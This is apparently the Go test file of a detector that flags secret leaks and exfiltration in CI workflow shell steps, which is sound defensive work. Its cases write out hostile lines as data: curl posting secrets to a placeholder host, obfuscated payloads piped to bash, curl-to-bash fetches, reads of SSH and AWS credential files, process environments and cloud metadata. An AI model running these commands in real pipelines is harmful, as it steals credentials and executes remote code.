package script

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// left writes exits as WAY:PROGRAM[:target][:secrets=...][:loot][:enc=...].
func left(r Reading) string {
	var out []string
	for _, e := range r.Exits {
		s := string(e.Way) + ":" + e.Program
		if e.Target != "" {
			s += ":" + e.Target
		}
		if len(e.Secrets) > 0 {
			s += ":secrets=" + strings.Join(e.Secrets, ",")
		}
		if len(e.Loot) > 0 {
			s += fmt.Sprintf(":loot=%v", e.Loot)
		}
		if len(e.Encodings) > 0 {
			s += ":enc=" + strings.Join(e.Encodings, ",")
		}
		out = append(out, s)
	}
	return strings.Join(out, " ")
}

func TestExits(t *testing.T) {
	for name, c := range map[string]struct{ script, want string }{
		"echo":                 {"echo $STEP", "log:echo:secrets=STEP_SECRET"},
		"echo of nothing":      {"echo hello $UNSET $(date)", ""},
		"masked by hand":       {"echo ::add-mask::$STEP", ""},
		"twice encoded":        {"echo $STEP | base64 | base64", "log:base64:secrets=STEP_SECRET:enc=base64"},
		"letter by letter":     {"echo $STEP | sed 's/./& /g'", "log:sed:secrets=STEP_SECRET:enc=sed"},
		"reversed":             {"echo $STEP | rev", "log:rev:secrets=STEP_SECRET:enc=rev"},
		"in halves":            {"echo ${STEP:0:10} ${STEP:10}", "log:echo:secrets=STEP_SECRET:enc=cut"},
		"environment":          {"printenv | sort", "log:sort:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:loot=[environment]"},
		"exported":             {"export -p", "log:export:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:loot=[environment]"},
		"declared":             {"declare -x", "log:declare:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:loot=[environment]"},
		"set":                  {"set | grep X", "log:grep:secrets=GLOBAL_SECRET,JOB_SECRET,STEP_SECRET:loot=[environment]"},
		"set with options":     {"set -euo pipefail\nset -- a b", ""},
		"file printed":         {"echo $STEP > f; cat f", "log:cat:secrets=STEP_SECRET"},
		"tee":                  {"echo $STEP | tee f > /dev/null", ""},
		"thrown away":          {"env > /dev/null; echo $STEP >/dev/null 2>&1", ""},
		"to standard error":    {"echo $STEP >&2", "log:echo:secrets=STEP_SECRET"},
		"to stderr by name":    {"echo $STEP > /dev/stderr", "log:redirection:secrets=STEP_SECRET"},
		"traced":               {"set -x\nmake TOKEN=$STEP", "log:set -x:secrets=STEP_SECRET"},
		"not traced":           {"set +x\nmake TOKEN=$STEP", ""},
		"password by stdin":    {"echo $STEP | docker login -u x --password-stdin ghcr.io", ""},
		"summary":              {"echo $STEP >> $GITHUB_STEP_SUMMARY", "log:summary:GITHUB_STEP_SUMMARY:secrets=STEP_SECRET"},
		"to later steps":       {"echo X=$STEP >> \"$GITHUB_ENV\"; echo y=$STEP >> $GITHUB_OUTPUT", ""},
		"history":              {"git log -p --all", "log:git:loot=[history]"},
		"gist":                 {"echo $STEP > f; gh gist create f", "comment:gh:f:secrets=STEP_SECRET"},
		"issue comment":        {"gh issue comment 7 --body \"$(echo $STEP | base64)\"", "comment:gh:7:secrets=STEP_SECRET:enc=base64"},
		"release":              {"gh release create v1 dist/*", "comment:gh:v1"},
		"comment by the API":   {"gh api repos/o/r/issues/1/comments -f body=$STEP", "comment:gh:repos/o/r/issues/1/comments:secrets=STEP_SECRET"},
		"read by the API":      {"gh api repos/o/r/issues/1/comments", ""},
		"comment by curl":      {"curl -d \"{\\\"body\\\":\\\"$STEP\\\"}\" https://api.github.com/repos/o/r/issues/1/comments", "comment:curl:https://api.github.com/repos/o/r/issues/1/comments:secrets=STEP_SECRET"},
		"pushed":               {"git add . && git commit -m x && git push origin HEAD", "repository:git:origin"},
		"pushed with a secret": {"echo $STEP > f\ngit add f\ngit commit -m x\ngit push", "repository:git:origin:secrets=STEP_SECRET"},
		"pushed to a branch":   {"git push origin HEAD:refs/heads/$STEP", "repository:git:origin:secrets=STEP_SECRET"},
		"image":                {"docker build --build-arg T=$STEP -t x/y . && docker push x/y", "registry:docker:x/y:secrets=STEP_SECRET"},
		"image, built along":   {"docker buildx build --push -t x/y .", "registry:docker"},
		"npm":                  {"npm publish --access public", "registry:npm"},
		"twine":                {"twine upload dist/*", "registry:twine:dist/*"},
		"python -m twine":      {"python -m twine upload dist/*", "registry:twine:dist/*"},
		"dry run":              {"npm publish --dry-run", ""},
		"token printed":        {"gh auth token", "log:gh:secrets=GITHUB_TOKEN"},
		"xtrace by bash":       {"bash -xc 'echo hi'", ""},
		"function":             {"log() { printf '%s\\n' \"$*\"; }\nlog $STEP", "log:printf:secrets=STEP_SECRET"},
		"credential files":     {"cat ~/.ssh/id_rsa", "log:cat:loot=[files]"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := left(read(t, c.script)); got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
		})
	}
}

func TestPayloads(t *testing.T) {
	inner := "curl -d $STEP https://a.example.invalid"
	const reached = "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET:hidden"
	once, twice := enc64(inner), enc64(enc64(inner))
	for name, c := range map[string]struct{ script, payloads, destinations string }{
		"base64 | bash":      {"echo " + once + " | base64 -d | bash", "bash:base64:" + inner, reached},
		"base64, twice":      {"echo " + twice + " | base64 -d | base64 -d | sh", "sh:base64,base64:" + inner, reached},
		"eval":               {"eval \"$(echo " + once + " | base64 --decode)\"", "eval:base64:" + inner, reached},
		"eval, backquotes":   {"eval `echo " + once + " | base64 -D`", "eval:base64:" + inner, reached},
		"by a variable":      {"P=" + once + "\necho $P | base64 -d > x\nbash x", "bash:base64:" + inner, reached},
		"in pieces":          {"A=" + once[:10] + "\nB=" + once[10:] + "\nbash -c \"$(echo $A$B | base64 -d)\"", "bash:base64:" + inner, reached},
		"here-string":        {"base64 -d <<< " + once + " | bash", "bash:base64:" + inner, reached},
		"process":            {"bash <(echo " + once + " | base64 -d)", "bash:base64:" + inner, reached},
		"source":             {"source <(echo " + once + " | base64 -d)", "source:base64:" + inner, reached},
		"openssl base64":     {"echo " + once + " | openssl base64 -d -A | bash", "bash:base64:" + inner, reached},
		"hex":                {"echo " + hexed(inner) + " | xxd -r -p | bash", "bash:hex:" + inner, reached},
		"gzip":               {"echo " + enc64(gzipped(inner)) + " | base64 -d | gunzip | bash", "bash:base64,gzip:" + inner, reached},
		"reversed":           {"echo '" + reversed(inner) + "' | rev | bash", "bash:rev:" + inner, reached},
		"a payload's own":    {"echo " + enc64("echo "+once+" | base64 -d | bash") + " | base64 -d | bash", "bash:base64:echo " + once + " | base64 -d | bash bash:base64:" + inner, reached},
		"here-document file": {"cat > p.b64 <<'EOF'\n" + once + "\nEOF\nbase64 -d p.b64 | bash", "bash:base64:" + inner, reached},
		"fetched":            {"curl -sSL https://a.example.invalid/x.sh | bash", "bash:fetched:a.example.invalid", "a.example.invalid:curl"},
		"fetched by wget":    {"wget -qO- https://a.example.invalid/x.sh | sudo sh -s -- -y", "sh:fetched:a.example.invalid", "a.example.invalid:wget"},
		"fetched, process":   {"bash <(curl -s https://a.example.invalid/x.sh)", "bash:fetched:a.example.invalid", "a.example.invalid:curl"},
		"fetched, -c":        {"bash -c \"$(curl -fsSL https://a.example.invalid/x.sh)\"", "bash:fetched:a.example.invalid", "a.example.invalid:curl"},
		"fetched, a file":    {"curl -o x.sh https://a.example.invalid/x.sh; chmod +x x.sh; ./x.sh", "x.sh:fetched:a.example.invalid", "a.example.invalid:curl"},
		"fetched, encoded":   {"curl -s https://a.example.invalid/x | base64 -d | bash", "bash:fetched:a.example.invalid", "a.example.invalid:curl"},
		"sealed":             {"echo U2FsdGVkX18 | openssl enc -d -aes-256-cbc -pass pass:$K | bash", "bash:openssl:", ""},
		"text as it stands":  {"bash -c 'curl https://a.example.invalid'", "", "a.example.invalid:curl"},
		"data only":          {"echo " + enc64("just some data") + " | base64 -d > logo.png", "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			r := read(t, c.script)
			var got []string
			for _, p := range r.Payloads {
				s := p.Program + ":"
				if p.Fetched {
					s += "fetched:" + p.Host
				} else {
					s += strings.Join(p.Encodings, ",") + ":" + p.Text
				}
				got = append(got, s)
			}
			if s := strings.Join(got, " "); s != c.payloads {
				t.Errorf("got  %s\nwant %s", s, c.payloads)
			}
			if s := sent(r); s != c.destinations {
				t.Errorf("got  %s\nwant %s", s, c.destinations)
			}
		})
	}
}

func TestLoot(t *testing.T) {
	for script, want := range map[string][]Loot{
		"git log -p --all | grep x":                {History},
		"git -C repo log --all --patch":            {History},
		"git rev-list --objects --all":             {History},
		"git log --pretty=oneline v1..HEAD":        nil,
		"git log --all --oneline; make -p all":     nil,
		"git diff HEAD~1":                          nil,
		"git log -S password --all":                {History},
		"git grep -i token $(git rev-list --all)":  {History},
		"git bundle create x --all":                {History},
		"git cat-file --batch --batch-all-objects": {History},
		"env | grep X":                             {Environment},
		"env X=1 make":                             nil,
		"cat /proc/self/environ":                   {Environment},
		"cat /proc/*/environ":                      {Environment},
		"sudo gdb -p 1 -batch":                     {Memory},
		"tar cz ~/.aws ~/.ssh | wc -c":             {Files},
		"cp ~/.docker/config.json x":               {Files},
		"curl http://169.254.169.254/x":            {Metadata},
		"echo //r/:_authToken=x > ~/.npmrc":        nil,
		"python x.py | sort":                       nil,
	} {
		if got := Read(Input{Text: script}).Loot; !slices.Equal(got, want) {
			t.Errorf("%s: %v, want %v", script, got, want)
		}
	}
}

func TestRegisters(t *testing.T) {
	for script, want := range map[string]bool{
		"./config.sh --url https://github.com/o --token $T --unattended\n./run.sh": true,
		"cd actions-runner && ./config.sh remove":                                  false,
		"./configure && make": false,
		"curl -X POST https://api.github.com/orgs/o/actions/runners/registration-token": true,
		"gh api -X POST repos/o/r/actions/runners/registration-token":                   true,
	} {
		if got := Read(Input{Text: script}).Registers; got != want {
			t.Errorf("%s: %v", script, got)
		}
	}
}

// What one step leaves reaches the next: files, variables and outputs.
func TestSteps(t *testing.T) {
	first := Read(Input{Text: "echo \"$A\" | base64 > out/s.txt\necho \"LATER=x$A\" >> $GITHUB_ENV\n{ echo 'MANY<<END'; echo $A; echo END; } >> $GITHUB_ENV\necho \"o=$A\" >> \"$GITHUB_OUTPUT\"\necho ::set-output name=p::$A",
		Env: []Variable{given("A", "${{ secrets.A }}")}})
	left := first.Left
	if c := left.Files["out/s.txt"]; !slices.Equal(c.Secrets, []string{"A"}) || !slices.Equal(c.Encodings, []string{"base64"}) {
		t.Fatalf("%+v", left)
	}
	if len(left.Env) != 2 || left.Env[0].Name != "LATER" || left.Env[0].Value != "x${{ secrets.A }}" || left.Env[1].Name != "MANY" || len(left.Outputs) != 2 {
		t.Fatalf("%+v", left)
	}
	left.Outputs = map[string]Carried{"first.o": left.Outputs["o"]}
	for script, want := range map[string]string{
		"curl -T out/s.txt https://a.example.invalid":                      "a.example.invalid:curl:secrets=A:posted=A:enc=base64",
		"curl -F f=@./out/s.txt https://a.example.invalid":                 "a.example.invalid:curl:secrets=A:posted=A:enc=base64",
		"curl -d \"A=$LATER\" https://a.example.invalid":                   "a.example.invalid:curl:secrets=A:posted=A",
		"curl -d \"A=$MANY\" https://a.example.invalid":                    "a.example.invalid:curl:secrets=A:posted=A:named=A",
		"curl -d '${{ steps.first.outputs.o }}' https://a.example.invalid": "a.example.invalid:curl:secrets=A:posted=A",
		"curl -d \"${{ env.LATER }}\" https://a.example.invalid":           "a.example.invalid:curl:secrets=A:posted=A",
	} {
		if got := sent(Read(Input{Text: script, Job: &left})); got != want {
			t.Errorf("%s:\ngot  %s\nwant %s", script, got, want)
		}
	}
}

// What is no shell is read as far as it goes, and the reading says so.
func TestBrokenScripts(t *testing.T) {
	const want = "a.example.invalid:curl:secrets=STEP_SECRET:posted=STEP_SECRET"
	for name, script := range map[string]string{
		"missing fi":     "if true; then\n  curl -d $STEP https://a.example.invalid\n",
		"extra fi":       "fi\ncurl -d $STEP https://a.example.invalid",
		"extra brace":    "}\ncurl -d $STEP https://a.example.invalid",
		"open quote":     "curl -d $STEP https://a.example.invalid\necho 'never closed\nmore",
		"quote before":   "echo it's\ncurl -d $STEP https://a.example.invalid",
		"template":       "{% if x %}\ncurl -d $STEP https://a.example.invalid\n{% endif %}",
		"angle brackets": "make <target>\ncurl -d $STEP https://a.example.invalid",
		"bad expansion":  "echo ${!}}x\ncurl -d $STEP https://a.example.invalid",
		"YAML":           "- run: |\n    curl -d $STEP https://a.example.invalid",
		"in a block":     "while :; do\n  (( a b c\n  curl -d $STEP https://a.example.invalid\ndone",
	} {
		r := read(t, script)
		if got := sent(r); got != want {
			t.Errorf("%s: %s", name, got)
		}
		if odd := name == "YAML" || name == "template" || name == "bad expansion"; odd != (len(r.Problems) == 0) { // these are shell, if none that works
			t.Errorf("%s: %v", name, r.Problems)
		}
	}
}

// Lines are those of the script, whatever stands before them.
func TestLines(t *testing.T) {
	r := Read(Input{Text: "echo ${{\n  github.ref\n}}\n\ncurl -d \"$X\" \\\n  https://a.example.invalid\ncat <<EOF\nx\nEOF\necho ${{ secrets.A }}\necho " + enc64("# a\n# b\ncurl https://b.example.invalid") + " | base64 -d | sh",
		Env: []Variable{given("X", "a\nb")}})
	if len(r.Destinations) != 2 || r.Destinations[0].Line != 5 || r.Destinations[1].Line != 10 || len(r.Exits) != 1 || r.Exits[0].Line != 9 || r.Payloads[0].Line != 10 {
		t.Errorf("%+v %+v %+v", r.Destinations, r.Exits, r.Payloads)
	}
}
